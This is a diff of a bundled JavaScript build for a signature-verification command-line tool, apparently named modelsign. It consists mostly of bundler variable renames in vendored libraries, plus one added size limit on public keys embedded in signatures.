@@ -635,8 +635,8 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {number}
        */
-      displayWidth(str2) {
-        return stripColor(str2).length;
+      displayWidth(str3) {
+        return stripColor(str3).length;
       }
       /**
        * Style the title for displaying in the help. Called with 'Usage:', 'Options:', etc.
@@ -644,11 +644,11 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {string}
        */
-      styleTitle(str2) {
-        return str2;
+      styleTitle(str3) {
+        return str3;
       }
-      styleUsage(str2) {
-        return str2.split(" ").map((word) => {
+      styleUsage(str3) {
+        return str3.split(" ").map((word) => {
           if (word === "[options]") return this.styleOptionText(word);
           if (word === "[command]") return this.styleSubcommandText(word);
           if (word[0] === "[" || word[0] === "<")
@@ -656,46 +656,46 @@ var require_help = __commonJS({
           return this.styleCommandText(word);
         }).join(" ");
       }
-      styleCommandDescription(str2) {
-        return this.styleDescriptionText(str2);
+      styleCommandDescription(str3) {
+        return this.styleDescriptionText(str3);
       }
-      styleOptionDescription(str2) {
-        return this.styleDescriptionText(str2);
+      styleOptionDescription(str3) {
+        return this.styleDescriptionText(str3);
       }
-      styleSubcommandDescription(str2) {
-        return this.styleDescriptionText(str2);
+      styleSubcommandDescription(str3) {
+        return this.styleDescriptionText(str3);
       }
-      styleArgumentDescription(str2) {
-        return this.styleDescriptionText(str2);
+      styleArgumentDescription(str3) {
+        return this.styleDescriptionText(str3);
       }
-      styleDescriptionText(str2) {
-        return str2;
+      styleDescriptionText(str3) {
+        return str3;
       }
-      styleOptionTerm(str2) {
-        return this.styleOptionText(str2);
+      styleOptionTerm(str3) {
+        return this.styleOptionText(str3);
       }
-      styleSubcommandTerm(str2) {
-        return str2.split(" ").map((word) => {
+      styleSubcommandTerm(str3) {
+        return str3.split(" ").map((word) => {
           if (word === "[options]") return this.styleOptionText(word);
           if (word[0] === "[" || word[0] === "<")
             return this.styleArgumentText(word);
           return this.styleSubcommandText(word);
         }).join(" ");
       }
-      styleArgumentTerm(str2) {
-        return this.styleArgumentText(str2);
+      styleArgumentTerm(str3) {
+        return this.styleArgumentText(str3);
       }
-      styleOptionText(str2) {
-        return str2;
+      styleOptionText(str3) {
+        return str3;
       }
-      styleArgumentText(str2) {
-        return str2;
+      styleArgumentText(str3) {
+        return str3;
       }
-      styleSubcommandText(str2) {
-        return str2;
+      styleSubcommandText(str3) {
+        return str3;
       }
-      styleCommandText(str2) {
-        return str2;
+      styleCommandText(str3) {
+        return str3;
       }
       /**
        * Calculate the pad width from the maximum term length.
@@ -718,8 +718,8 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {boolean}
        */
-      preformatted(str2) {
-        return /\n[^\S\r\n]/.test(str2);
+      preformatted(str3) {
+        return /\n[^\S\r\n]/.test(str3);
       }
       /**
        * Format the "item", which consists of a term and description. Pad the term and wrap the description, indenting the following lines.
@@ -765,9 +765,9 @@ ${itemIndentStr}`);
        * @param {number} width
        * @returns {string}
        */
-      boxWrap(str2, width) {
-        if (width < this.minWidthToWrap) return str2;
-        const rawLines = str2.split(/\r\n|\n/);
+      boxWrap(str3, width) {
+        if (width < this.minWidthToWrap) return str3;
+        const rawLines = str3.split(/\r\n|\n/);
         const chunkPattern = /[\s]*[^\s]+/g;
         const wrappedLines = [];
         rawLines.forEach((line) => {
@@ -795,9 +795,9 @@ ${itemIndentStr}`);
         return wrappedLines.join("\n");
       }
     };
-    function stripColor(str2) {
+    function stripColor(str3) {
       const sgrPattern = /\x1b\[\d*(;\d*)*m/g;
-      return str2.replace(sgrPattern, "");
+      return str3.replace(sgrPattern, "");
     }
     exports.Help = Help2;
     exports.stripColor = stripColor;
@@ -1068,9 +1068,9 @@ var require_option = __commonJS({
         return option.negate === (negativeValue === value);
       }
     };
-    function camelcase(str2) {
-      return str2.split("-").reduce((str3, word) => {
-        return str3 + word[0].toUpperCase() + word.slice(1);
+    function camelcase(str3) {
+      return str3.split("-").reduce((str4, word) => {
+        return str4 + word[0].toUpperCase() + word.slice(1);
       });
     }
     function splitOptionFlags(flags) {
@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path14 = __require("node:path");
+    var path18 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -1251,14 +1251,14 @@ var require_command = __commonJS({
         this._showSuggestionAfterError = true;
         this._savedState = null;
         this._outputConfiguration = {
-          writeOut: (str2) => process2.stdout.write(str2),
-          writeErr: (str2) => process2.stderr.write(str2),
-          outputError: (str2, write) => write(str2),
+          writeOut: (str3) => process2.stdout.write(str3),
+          writeErr: (str3) => process2.stderr.write(str3),
+          outputError: (str3, write) => write(str3),
           getOutHelpWidth: () => process2.stdout.isTTY ? process2.stdout.columns : void 0,
           getErrHelpWidth: () => process2.stderr.isTTY ? process2.stderr.columns : void 0,
           getOutHasColors: () => useColor() ?? (process2.stdout.isTTY && process2.stdout.hasColors?.()),
           getErrHasColors: () => useColor() ?? (process2.stderr.isTTY && process2.stderr.hasColors?.()),
-          stripColor: (str2) => stripColor(str2)
+          stripColor: (str3) => stripColor(str3)
         };
         this._hidden = false;
         this._helpOption = void 0;
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path14.resolve(baseDir, baseName);
+          const localBin = path18.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path14.extname(baseName))) return void 0;
+          if (sourceExt.includes(path18.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path14.resolve(
-            path14.dirname(resolvedScriptPath),
+          executableDir = path18.resolve(
+            path18.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path14.basename(
+            const legacyName = path18.basename(
               this._scriptPath,
-              path14.extname(this._scriptPath)
+              path18.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path14.extname(executableFile));
+        launchWithNode = sourceExt.includes(path18.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -2982,18 +2982,18 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [description]
        * @return {(this | string | undefined)} `this` command for chaining, or version string if no arguments
        */
-      version(str2, flags, description) {
-        if (str2 === void 0) return this._version;
-        this._version = str2;
+      version(str3, flags, description) {
+        if (str3 === void 0) return this._version;
+        this._version = str3;
         flags = flags || "-V, --version";
         description = description || "output the version number";
         const versionOption = this.createOption(flags, description);
         this._versionOptionName = versionOption.attributeName();
         this._registerOption(versionOption);
         this.on("option:" + versionOption.name(), () => {
-          this._outputConfiguration.writeOut(`${str2}
+          this._outputConfiguration.writeOut(`${str3}
 `);
-          this._exit(0, "commander.version", str2);
+          this._exit(0, "commander.version", str3);
         });
         return this;
       }
@@ -3004,10 +3004,10 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {object} [argsDescription]
        * @return {(string|Command)}
        */
-      description(str2, argsDescription) {
-        if (str2 === void 0 && argsDescription === void 0)
+      description(str3, argsDescription) {
+        if (str3 === void 0 && argsDescription === void 0)
           return this._description;
-        this._description = str2;
+        this._description = str3;
         if (argsDescription) {
           this._argsDescription = argsDescription;
         }
@@ -3019,9 +3019,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      summary(str2) {
-        if (str2 === void 0) return this._summary;
-        this._summary = str2;
+      summary(str3) {
+        if (str3 === void 0) return this._summary;
+        this._summary = str3;
         return this;
       }
       /**
@@ -3069,8 +3069,8 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      usage(str2) {
-        if (str2 === void 0) {
+      usage(str3) {
+        if (str3 === void 0) {
           if (this._usage) return this._usage;
           const args = this.registeredArguments.map((arg) => {
             return humanReadableArgName(arg);
@@ -3081,7 +3081,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
             this.registeredArguments.length ? args : []
           ).join(" ");
         }
-        this._usage = str2;
+        this._usage = str3;
         return this;
       }
       /**
@@ -3090,9 +3090,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      name(str2) {
-        if (str2 === void 0) return this._name;
-        this._name = str2;
+      name(str3) {
+        if (str3 === void 0) return this._name;
+        this._name = str3;
         return this;
       }
       /**
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path14.basename(filename, path14.extname(filename));
+        this._name = path18.basename(filename, path18.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path15) {
-        if (path15 === void 0) return this._executableDir;
-        this._executableDir = path15;
+      executableDir(path19) {
+        if (path19 === void 0) return this._executableDir;
+        this._executableDir = path19;
         return this;
       }
       /**
@@ -3226,17 +3226,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let hasColors;
         let helpWidth;
         if (error) {
-          baseWrite = (str2) => this._outputConfiguration.writeErr(str2);
+          baseWrite = (str3) => this._outputConfiguration.writeErr(str3);
           hasColors = this._outputConfiguration.getErrHasColors();
           helpWidth = this._outputConfiguration.getErrHelpWidth();
         } else {
-          baseWrite = (str2) => this._outputConfiguration.writeOut(str2);
+          baseWrite = (str3) => this._outputConfiguration.writeOut(str3);
           hasColors = this._outputConfiguration.getOutHasColors();
           helpWidth = this._outputConfiguration.getOutHelpWidth();
         }
-        const write = (str2) => {
-          if (!hasColors) str2 = this._outputConfiguration.stripColor(str2);
-          return baseWrite(str2);
+        const write = (str3) => {
+          if (!hasColors) str3 = this._outputConfiguration.stripColor(str3);
+          return baseWrite(str3);
         };
         return { error, write, hasColors, helpWidth };
       }
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path14) {
-  return new ModelsignError(code, message, path14 === void 0 ? { kind: "reject" } : { kind: "reject", path: path14 });
+function reject(code, message, path18) {
+  return new ModelsignError(code, message, path18 === void 0 ? { kind: "reject" } : { kind: "reject", path: path18 });
 }
-function usage(code, message, path14) {
-  return new ModelsignError(code, message, path14 === void 0 ? { kind: "usage" } : { kind: "usage", path: path14 });
+function usage(code, message, path18) {
+  return new ModelsignError(code, message, path18 === void 0 ? { kind: "usage" } : { kind: "usage", path: path18 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3969,7 +3969,7 @@ var encodeStr, sigma16_32, sigma32_32, BLOCK_LEN, BLOCK_LEN32, MAX_COUNTER, U32_
 var init_arx = __esm({
   "node_modules/@noble/ciphers/_arx.js"() {
     init_utils();
-    encodeStr = (str2) => Uint8Array.from(str2.split(""), (c) => c.charCodeAt(0));
+    encodeStr = (str3) => Uint8Array.from(str3.split(""), (c) => c.charCodeAt(0));
     sigma16_32 = /* @__PURE__ */ (() => swap32IfBE(u32(encodeStr("expand 16-byte k"))))();
     sigma32_32 = /* @__PURE__ */ (() => swap32IfBE(u32(encodeStr("expand 32-byte k"))))();
     BLOCK_LEN = 64;
@@ -4626,6 +4626,7 @@ function keyTrust(key, label2) {
         throw reject("KEY_HINT_MISMATCH", `signature names key ${m2.hint.slice(0, 16)}\u2026, not the trusted ${label2} (${hint.slice(0, 16)}\u2026)`);
       }
       if (m2.rawBytes !== void 0) {
+        if (m2.rawBytes.length > MAX_EMBEDDED_KEY_BYTES) throw reject("KEY_HINT_MISMATCH", `signature embeds a ${m2.rawBytes.length}-byte public key; not the trusted ${label2}`);
         const embedded = findPemBlocks(m2.rawBytes.toString("utf8"))[0];
         const ours = findPemBlocks(publicKeyPem(key))[0];
         const same = embedded ? embedded.der.equals(ours.der) : m2.rawBytes.equals(ours.der);
@@ -4637,12 +4638,14 @@ function keyTrust(key, label2) {
     }
   };
 }
+var MAX_EMBEDDED_KEY_BYTES;
 var init_trust_key = __esm({
   "src/verify/trust-key.ts"() {
     "use strict";
     init_errors();
     init_algorithms();
     init_pem();
+    MAX_EMBEDDED_KEY_BYTES = 16 * 1024;
   }
 });
 
@@ -5092,9 +5095,9 @@ var require_semver = __commonJS({
           // This probably shouldn't be used publicly.
           // 1.0.0 'pre' would become 1.0.0-0 which is the wrong direction.
           case "pre": {
-            const base = Number(identifierBase) ? 1 : 0;
+            const base2 = Number(identifierBase) ? 1 : 0;
             if (this.prerelease.length === 0) {
-              this.prerelease = [base];
+              this.prerelease = [base2];
             } else {
               let i = this.prerelease.length;
               while (--i >= 0) {
@@ -5107,11 +5110,11 @@ var require_semver = __commonJS({
                 if (identifier === this.prerelease.join(".") && identifierBase === false) {
                   throw new Error("invalid increment argument: identifier already exists");
                 }
-                this.prerelease.push(base);
+                this.prerelease.push(base2);
               }
             }
             if (identifier) {
-              let prerelease = [identifier, base];
+              let prerelease = [identifier, base2];
               if (identifierBase === false) {
                 prerelease = [identifier];
               }
@@ -5524,10 +5527,10 @@ var require_truncate = __commonJS({
   "node_modules/semver/functions/truncate.js"(exports, module) {
     "use strict";
     var parse2 = require_parse();
-    var constants5 = require_constants();
+    var constants8 = require_constants();
     var SemVer = require_semver();
     var truncate = (version, truncation, options) => {
-      if (!constants5.RELEASE_TYPES.includes(truncation)) {
+      if (!constants8.RELEASE_TYPES.includes(truncation)) {
         return null;
       }
       const clonedVersion = cloneInputVersion(version, options);
@@ -6767,7 +6770,7 @@ var require_semver2 = __commonJS({
   "node_modules/semver/index.js"(exports, module) {
     "use strict";
     var internalRe = require_re();
-    var constants5 = require_constants();
+    var constants8 = require_constants();
     var SemVer = require_semver();
     var identifiers = require_identifiers();
     var parse2 = require_parse();
@@ -6851,8 +6854,8 @@ var require_semver2 = __commonJS({
       re: internalRe.re,
       src: internalRe.src,
       tokens: internalRe.t,
-      SEMVER_SPEC_VERSION: constants5.SEMVER_SPEC_VERSION,
-      RELEASE_TYPES: constants5.RELEASE_TYPES,
+      SEMVER_SPEC_VERSION: constants8.SEMVER_SPEC_VERSION,
+      RELEASE_TYPES: constants8.RELEASE_TYPES,
       compareIdentifiers: identifiers.compareIdentifiers,
       rcompareIdentifiers: identifiers.rcompareIdentifiers
     };
@@ -6936,17 +6939,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path14) {
-      const ctrl = callVisitor(key, node, visitor, path14);
+    function visit_(key, node, visitor, path18) {
+      const ctrl = callVisitor(key, node, visitor, path18);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path14, ctrl);
-        return visit_(key, ctrl, visitor, path14);
+        replaceNode(key, path18, ctrl);
+        return visit_(key, ctrl, visitor, path18);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path14 = Object.freeze(path14.concat(node));
+          path18 = Object.freeze(path18.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path14);
+            const ci2 = visit_(i, node.items[i], visitor, path18);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -6957,13 +6960,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path14 = Object.freeze(path14.concat(node));
-          const ck = visit_("key", node.key, visitor, path14);
+          path18 = Object.freeze(path18.concat(node));
+          const ck = visit_("key", node.key, visitor, path18);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path14);
+          const cv = visit_("value", node.value, visitor, path18);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -6984,17 +6987,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path14) {
-      const ctrl = await callVisitor(key, node, visitor, path14);
+    async function visitAsync_(key, node, visitor, path18) {
+      const ctrl = await callVisitor(key, node, visitor, path18);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path14, ctrl);
-        return visitAsync_(key, ctrl, visitor, path14);
+        replaceNode(key, path18, ctrl);
+        return visitAsync_(key, ctrl, visitor, path18);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path14 = Object.freeze(path14.concat(node));
+          path18 = Object.freeze(path18.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path14);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path18);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7005,13 +7008,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path14 = Object.freeze(path14.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path14);
+          path18 = Object.freeze(path18.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path18);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path14);
+          const cv = await visitAsync_("value", node.value, visitor, path18);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7038,23 +7041,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path14) {
+    function callVisitor(key, node, visitor, path18) {
       if (typeof visitor === "function")
-        return visitor(key, node, path14);
+        return visitor(key, node, path18);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path14);
+        return visitor.Map?.(key, node, path18);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path14);
+        return visitor.Seq?.(key, node, path18);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path14);
+        return visitor.Pair?.(key, node, path18);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path14);
+        return visitor.Scalar?.(key, node, path18);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path14);
+        return visitor.Alias?.(key, node, path18);
       return void 0;
     }
-    function replaceNode(key, path14, node) {
-      const parent = path14[path14.length - 1];
+    function replaceNode(key, path18, node) {
+      const parent = path18[path18.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -7666,10 +7669,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path14, value) {
+    function collectionFromPath(schema, path18, value) {
       let v2 = value;
-      for (let i = path14.length - 1; i >= 0; --i) {
-        const k2 = path14[i];
+      for (let i = path18.length - 1; i >= 0; --i) {
+        const k2 = path18[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -7688,7 +7691,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path14) => path14 == null || typeof path14 === "object" && !!path14[Symbol.iterator]().next().done;
+    var isEmptyPath = (path18) => path18 == null || typeof path18 === "object" && !!path18[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -7718,11 +7721,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path14, value) {
-        if (isEmptyPath(path14))
+      addIn(path18, value) {
+        if (isEmptyPath(path18))
           this.add(value);
         else {
-          const [key, ...rest] = path14;
+          const [key, ...rest] = path18;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -7736,8 +7739,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path14) {
-        const [key, ...rest] = path14;
+      deleteIn(path18) {
+        const [key, ...rest] = path18;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -7751,8 +7754,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path14, keepScalar) {
-        const [key, ...rest] = path14;
+      getIn(path18, keepScalar) {
+        const [key, ...rest] = path18;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -7770,8 +7773,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path14) {
-        const [key, ...rest] = path14;
+      hasIn(path18) {
+        const [key, ...rest] = path18;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -7781,8 +7784,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path14, value) {
-        const [key, ...rest] = path14;
+      setIn(path18, value) {
+        const [key, ...rest] = path18;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -7806,13 +7809,13 @@ var require_Collection = __commonJS({
 var require_stringifyComment = __commonJS({
   "node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
     "use strict";
-    var stringifyComment = (str2) => str2.replace(/^(?!$)(?: $)?/gm, "#");
+    var stringifyComment = (str3) => str3.replace(/^(?!$)(?: $)?/gm, "#");
     function indentComment(comment, indent) {
       if (/^\n+$/.test(comment))
         return comment.substring(1);
       return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
     }
-    var lineComment = (str2, indent, comment) => str2.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str2.endsWith(" ") ? "" : " ") + comment;
+    var lineComment = (str3, indent, comment) => str3.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str3.endsWith(" ") ? "" : " ") + comment;
     exports.indentComment = indentComment;
     exports.lineComment = lineComment;
     exports.stringifyComment = stringifyComment;
@@ -7966,16 +7969,16 @@ var require_stringifyString = __commonJS({
       lineWidth: ctx.options.lineWidth,
       minContentWidth: ctx.options.minContentWidth
     });
-    var containsDocumentMarker = (str2) => /^(%|---|\.\.\.)/m.test(str2);
-    function lineLengthOverLimit(str2, lineWidth, indentLength) {
+    var containsDocumentMarker = (str3) => /^(%|---|\.\.\.)/m.test(str3);
+    function lineLengthOverLimit(str3, lineWidth, indentLength) {
       if (!lineWidth || lineWidth < 0)
         return false;
       const limit = lineWidth - indentLength;
-      const strLen = str2.length;
+      const strLen = str3.length;
       if (strLen <= limit)
         return false;
       for (let i = 0, start = 0; i < strLen; ++i) {
-        if (str2[i] === "\n") {
+        if (str3[i] === "\n") {
           if (i - start > limit)
             return true;
           start = i + 1;
@@ -7992,11 +7995,11 @@ var require_stringifyString = __commonJS({
       const { implicitKey } = ctx;
       const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
       const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
-      let str2 = "";
+      let str3 = "";
       let start = 0;
       for (let i = 0, ch = json[i]; ch; ch = json[++i]) {
         if (ch === " " && json[i + 1] === "\\" && json[i + 2] === "n") {
-          str2 += json.slice(start, i) + "\\ ";
+          str3 += json.slice(start, i) + "\\ ";
           i += 1;
           start = i;
           ch = "\\";
@@ -8005,38 +8008,38 @@ var require_stringifyString = __commonJS({
           switch (json[i + 1]) {
             case "u":
               {
-                str2 += json.slice(start, i);
+                str3 += json.slice(start, i);
                 const code = json.substr(i + 2, 4);
                 switch (code) {
                   case "0000":
-                    str2 += "\\0";
+                    str3 += "\\0";
                     break;
                   case "0007":
-                    str2 += "\\a";
+                    str3 += "\\a";
                     break;
                   case "000b":
-                    str2 += "\\v";
+                    str3 += "\\v";
                     break;
                   case "001b":
-                    str2 += "\\e";
+                    str3 += "\\e";
                     break;
                   case "0085":
-                    str2 += "\\N";
+                    str3 += "\\N";
                     break;
                   case "00a0":
-                    str2 += "\\_";
+                    str3 += "\\_";
                     break;
                   case "2028":
-                    str2 += "\\L";
+                    str3 += "\\L";
                     break;
                   case "2029":
-                    str2 += "\\P";
+                    str3 += "\\P";
                     break;
                   default:
                     if (code.substr(0, 2) === "00")
-                      str2 += "\\x" + code.substr(2);
+                      str3 += "\\x" + code.substr(2);
                     else
-                      str2 += json.substr(i, 6);
+                      str3 += json.substr(i, 6);
                 }
                 i += 5;
                 start = i + 1;
@@ -8046,14 +8049,14 @@ var require_stringifyString = __commonJS({
               if (implicitKey || json[i + 2] === '"' || json.length < minMultiLineLength) {
                 i += 1;
               } else {
-                str2 += json.slice(start, i) + "\n\n";
+                str3 += json.slice(start, i) + "\n\n";
                 while (json[i + 2] === "\\" && json[i + 3] === "n" && json[i + 4] !== '"') {
-                  str2 += "\n";
+                  str3 += "\n";
                   i += 2;
                 }
-                str2 += indent;
+                str3 += indent;
                 if (json[i + 2] === " ")
-                  str2 += "\\";
+                  str3 += "\\";
                 i += 1;
                 start = i + 1;
               }
@@ -8062,8 +8065,8 @@ var require_stringifyString = __commonJS({
               i += 1;
           }
       }
-      str2 = start ? str2 + json.slice(start) : json;
-      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
+      str3 = start ? str3 + json.slice(start) : json;
+      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
     }
     function singleQuotedString(value, ctx) {
       if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
@@ -8191,15 +8194,15 @@ ${indent}${start}${value}${end}`;
           return quotedString(value, ctx);
         }
       }
-      const str2 = value.replace(/\n+/g, `$&
+      const str3 = value.replace(/\n+/g, `$&
 ${indent}`);
       if (actualString) {
-        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str2);
+        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str3);
         const { compat, tags } = ctx.doc.schema;
         if (tags.some(test) || compat?.some(test))
           return quotedString(value, ctx);
       }
-      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
+      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
     }
     function stringifyString(item, ctx, onComment, onChompKeep) {
       const { implicitKey, inFlow } = ctx;
@@ -8351,11 +8354,11 @@ var require_stringify = __commonJS({
       const props = stringifyProps(node, tagObj, ctx);
       if (props.length > 0)
         ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
-      const str2 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
+      const str3 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
       if (!props)
-        return str2;
-      return identity.isScalar(node) || str2[0] === "{" || str2[0] === "[" ? `${props} ${str2}` : `${props}
-${ctx.indent}${str2}`;
+        return str3;
+      return identity.isScalar(node) || str3[0] === "{" || str3[0] === "[" ? `${props} ${str3}` : `${props}
+${ctx.indent}${str3}`;
     }
     exports.createStringifyContext = createStringifyContext;
     exports.stringify = stringify;
@@ -8390,8 +8393,8 @@ var require_stringifyPair = __commonJS({
       });
       let keyCommentDone = false;
       let chompKeep = false;
-      let str2 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
-      if (!explicitKey && !ctx.inFlow && str2.length > 1024) {
+      let str3 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
+      if (!explicitKey && !ctx.inFlow && str3.length > 1024) {
         if (simpleKeys)
           throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
         explicitKey = true;
@@ -8400,27 +8403,27 @@ var require_stringifyPair = __commonJS({
         if (allNullValues || value == null) {
           if (keyCommentDone && onComment)
             onComment();
-          return str2 === "" ? "?" : explicitKey ? `? ${str2}` : str2;
+          return str3 === "" ? "?" : explicitKey ? `? ${str3}` : str3;
         }
       } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
-        str2 = `? ${str2}`;
+        str3 = `? ${str3}`;
         if (keyComment && !keyCommentDone) {
-          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
         } else if (chompKeep && onChompKeep)
           onChompKeep();
-        return str2;
+        return str3;
       }
       if (keyCommentDone)
         keyComment = null;
       if (explicitKey) {
         if (keyComment)
